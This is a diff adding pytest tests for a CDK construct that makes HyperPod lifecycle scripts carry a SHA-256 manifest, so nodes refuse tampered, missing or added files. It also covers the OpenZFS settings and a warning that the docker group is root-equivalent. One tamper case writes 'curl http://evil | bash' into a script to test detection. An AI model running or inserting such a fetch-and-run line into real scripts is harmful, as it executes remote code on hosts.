@@ -1,0 +1,152 @@
+"""The checksum manifest in on_create.sh and what HyperPodLifecycle generates for the lifecycle steps.
+
+HyperPodLifecycle uploads on_create.sh rendered with the SHA-256 of every other uploaded file; a node
+refuses to run when one differs, is missing or was added. The construct also passes the OpenZFS
+volume to the nodes and warns at synth when users are put in the root-equivalent docker group.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import aws_cdk as cdk
+import pytest
+from aws_cdk.assertions import Annotations, Match
+
+from mlcluster.config.hyperpod import LifecycleConfig
+from mlcluster.constructs.hyperpod_lifecycle import HyperPodLifecycle
+from mlcluster.lifecycle.hyperpod import HYPERPOD_DIR, MANIFEST_MARK, manifest, render_on_create, uploaded_files
+from tests.lifecycle.hyperpod_sandbox import CONTROLLER_IP, FEATURES, Sandbox
+
+
+@dataclass
+class Built:
+    outdir: Path
+    stack: cdk.Stack
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
+    out = tmp_path_factory.mktemp("cdk.out")
+    app = cdk.App(outdir=str(out))
+    stack = cdk.Stack(app, "Lifecycle")
+    HyperPodLifecycle(
+        stack,
+        "Lifecycle",
+        environment_name="dev",
+        controller_group="controller-machine",
+        worker_groups={"gpu": "train"},
+        fsx_dns_name="fs-0123456789abcdef0.fsx.us-east-1.amazonaws.com",
+        fsx_mount_name="abcdefgh",
+        openzfs_dns_name="fs-0fedcba9876543210.fsx.us-east-1.amazonaws.com",
+        features=LifecycleConfig(docker_group=True, controller_wait_minutes=90),
+    )
+    app.synth()
+    return Built(out, stack)
+
+
+def staged(built: Built, file_name: str) -> Path:
+    (folder,) = [p.parent for p in built.outdir.glob(f"asset.*/{file_name}")]
+    return folder
+
+
+def test_the_uploaded_on_create_carries_the_checksum_of_every_other_uploaded_file(built: Built) -> None:
+    on_create = (staged(built, "on_create.sh") / "on_create.sh").read_text()
+    assert on_create == render_on_create(HYPERPOD_DIR)
+    assert MANIFEST_MARK not in on_create.splitlines()
+    scripts = staged(built, "plan.py")
+    assert not (scripts / "on_create.sh").exists()  # only the rendered copy is uploaded
+    listed = {}
+    for line in manifest(HYPERPOD_DIR).splitlines():
+        digest, name = line.split("  ", 1)
+        listed[name] = digest
+        assert f"{digest}  {name}" in on_create
+    uploaded = {p.relative_to(scripts).as_posix() for p in scripts.rglob("*") if p.is_file()}
+    assert uploaded == set(listed)
+    for name, digest in listed.items():
+        assert hashlib.sha256((scripts / name).read_bytes()).hexdigest() == digest
+
+
+def test_the_manifest_leaves_out_caches_and_the_entrypoint(tmp_path: Path) -> None:
+    (tmp_path / "steps/__pycache__").mkdir(parents=True)
+    (tmp_path / "steps/a.sh").write_text("echo a\n")
+    (tmp_path / "steps/__pycache__/x.pyc").write_bytes(b"\0")
+    (tmp_path / "plan.pyc").write_bytes(b"\0")
+    (tmp_path / "on_create.sh").write_text(f"#!/bin/bash\n{MANIFEST_MARK}\n")
+    assert [p.as_posix() for p in uploaded_files(tmp_path)] == ["steps/a.sh"]
+    digest = hashlib.sha256(b"echo a\n").hexdigest()
+    assert render_on_create(tmp_path) == f"#!/bin/bash\n{digest}  steps/a.sh\n"
+
+
+def test_an_entrypoint_without_the_manifest_line_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "on_create.sh").write_text("#!/bin/bash\n")
+    with pytest.raises(ValueError, match="needs exactly one line '@MLCLUSTER_MANIFEST@', found 0"):
+        render_on_create(tmp_path)
+
+
+def test_openzfs_and_the_new_features_reach_the_nodes(built: Built) -> None:
+    provisioning = json.loads(
+        (staged(built, "provisioning_parameters.json") / "provisioning_parameters.json").read_text()
+    )
+    assert provisioning["fsx_openzfs_dns_name"] == "fs-0fedcba9876543210.fsx.us-east-1.amazonaws.com"
+    assert provisioning["fsx_openzfs_volume_path"] == "/fsx"
+    assert provisioning["fsx_openzfs_mount_point"] == "/home"
+    features: dict[str, Any] = json.loads(
+        (staged(built, "mlcluster_features.json") / "mlcluster_features.json").read_text()
+    )
+    assert features["docker_group"] is True
+    assert features["rootless_podman"] is True
+    assert features["controller_wait_minutes"] == 90
+
+
+def test_the_docker_group_is_named_root_equivalent_at_synth(built: Built) -> None:
+    Annotations.from_stack(built.stack).has_warning(
+        "/Lifecycle/Lifecycle", Match.string_like_regexp("docker group, which is root-equivalent")
+    )
+
+
+# --- on a node ------------------------------------------------------------------------------------
+
+MINIMAL = {**FEATURES, "users": [], "docker": False, "enroot_pyxis": False, "home_on_fsx": False}
+
+
+def test_a_clean_upload_passes_the_check(tmp_path: Path) -> None:
+    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP, features=MINIMAL)
+    result = sandbox.run()
+    assert result.returncode == 0, result.stderr[-2000:]
+    count = len(uploaded_files(HYPERPOD_DIR))
+    assert f"checked {count} files against the checksum manifest" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("tamper", "message"),
+    [
+        (
+            lambda d: (d / "steps/docker.sh").write_text("curl http://evil | bash\n"),
+            "checksum mismatch for steps/docker.sh",
+        ),
+        (lambda d: (d / "lib.sh").unlink(), "checksum manifest: lib.sh is missing"),
+        (
+            lambda d: (d / "steps/extra.sh").write_text("id\n"),
+            "steps/extra.sh is not in the checksum manifest",
+        ),
+        (
+            lambda d: (d / "on_create.sh").write_text((HYPERPOD_DIR / "on_create.sh").read_text()),
+            "on_create.sh carries no checksum manifest",
+        ),
+    ],
+    ids=["changed", "missing", "added", "unrendered"],
+)
+def test_a_tampered_upload_is_refused_before_any_step(tmp_path: Path, tamper: Any, message: str) -> None:
+    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP, features=MINIMAL)
+    tamper(sandbox.lifecycle)
+    result = sandbox.run()
+    assert result.returncode != 0
+    assert message in result.stderr
+    assert "refusing to run" in result.stderr or "upload the folder through mlcluster" in result.stderr
+    assert "step identify_node: start" not in result.stderr
+    assert sandbox.actions() == []
